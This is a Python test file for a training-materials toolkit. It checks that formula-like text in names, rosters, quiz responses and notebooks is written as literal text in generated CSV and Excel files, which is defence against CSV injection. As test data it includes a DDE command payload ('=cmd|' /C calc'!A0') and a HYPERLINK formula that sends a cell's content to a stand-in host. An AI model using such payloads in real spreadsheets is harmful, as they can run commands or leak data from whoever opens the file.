"""Formulas typed by people come out as text in every .xlsx and .csv the toolkit writes (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path

import nbformat
import pytest
from openpyxl import load_workbook

from builder.write.cells import safe_cell, safe_row
from tests.fuzz.engine import FORMULAS, formula_cells, no_pdf
from tests.helpers import ROOTS, run_cli

FORMULA_NAME = "=HYPERLINK(\"http://x.example/?\"&A1,\"klik\")"


@pytest.mark.parametrize("text", ["=1+1", "+SUM(1)", "-2+3", "@SUM(1)", "\t=1", "\r=1", "=cmd|' /C calc'!A0"])
def test_text_that_starts_a_formula_becomes_literal_text(text):
    """Leading = + - @ tab CR get an apostrophe, so spreadsheets show the text instead of running it."""
    assert safe_cell(text) == "'" + text


def test_numbers_and_plain_text_stay_as_they_are():
    """Computed numbers stay numbers (negative ones too); ordinary text, None and booleans are untouched."""
    assert safe_row([-0.25, 3, 87.5, None, True, "Budi", "", "Dinas = Kominfo"]) == \
        [-0.25, 3, 87.5, None, True, "Budi", "", "Dinas = Kominfo"]


def _csv_cells(path: Path) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"))) for cell in row]


def test_formula_in_roster_name_is_text_in_certificate_csvs(tmp_path):
    """A roster name typed as a formula is written as text in kelayakan.csv and register.csv, readable back."""
    root = tmp_path / "people"
    shutil.copytree(ROOTS / "people", root)
    roster = root / "rosters" / "peserta.csv"
    roster.write_text(roster.read_text(encoding="utf-8-sig").replace("Ma'ruf O'Neil", FORMULA_NAME.replace('"', '""')
                      .join('""')), encoding="utf-8")
    with no_pdf():
        result = run_cli(root, "build", "--only", "certificates")
    assert result.exit_code == 0, result.output
    written = sorted(p.name for p in (root / "build").rglob("*") if p.suffix in (".csv", ".xlsx"))
    assert written == ["kelayakan.csv", "register.csv"]
    for name in written:
        cells = _csv_cells(next((root / "build").rglob(name)))
        assert "'" + FORMULA_NAME in cells or any(c.startswith("'" + FORMULA_NAME) for c in cells), name
    assert formula_cells(root / "build") == []


def test_formula_in_response_name_is_text_in_score_report(tmp_path):
    """Quiz responses whose name and agency are formulas give a nilai.xlsx with text cells, not formulas."""
    root = tmp_path / "quiz"
    shutil.copytree(ROOTS / "quiz", root)
    responses = tmp_path / "kuis-pre.csv"
    rows = [["No", "Nama", "NIP", "Instansi", "Varian", "1", "2"], ["1", FORMULA_NAME, "", FORMULAS[1], "A", "A", "B"]]
    with responses.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle, delimiter=";").writerows(rows)
    result = run_cli(root, "quiz", "score", "--pre", str(responses), "--out", str(tmp_path / "nilai.xlsx"))
    assert result.exit_code == 0, result.output
    sheet = load_workbook(tmp_path / "nilai.xlsx")["Peserta"]
    row = [cell for cell in sheet[2]]
    assert row[1].value == "'" + FORMULA_NAME and row[1].data_type == "s"
    assert row[3].value == "'" + FORMULAS[1]
    assert isinstance(row[4].value, (int, float)) and row[4].data_type == "n"  # the computed score stays a number
    assert formula_cells(tmp_path) == []


def test_formula_in_notebook_name_is_text_in_score_csv(tmp_path):
    """A participant who typed a formula as their name gets a text cell in skor-latihan.csv."""
    from builder.render.notebooks import build_notebook
    from builder.sources.project import load_workshop

    root = tmp_path / "notebooks"
    shutil.copytree(ROOTS / "notebooks", root)
    workshop, _report = load_workshop(root / "curriculum" / "uji-notebook.yaml")
    notebook = build_notebook(workshop, workshop.modules["latihan-notebook"])
    for cell in notebook.cells:
        if cell.id == "nama-peserta":
            cell.source = f"nama_peserta = {json.dumps(FORMULA_NAME)}"
    nbformat.write(notebook, str(tmp_path / "budi.ipynb"))
    result = run_cli(root, "notebooks", "check", str(tmp_path / "budi.ipynb"), "--out", str(tmp_path / "skor.csv"))
    assert result.exit_code == 0, result.output
    assert "'" + FORMULA_NAME in _csv_cells(tmp_path / "skor.csv")
    assert formula_cells(tmp_path) == []
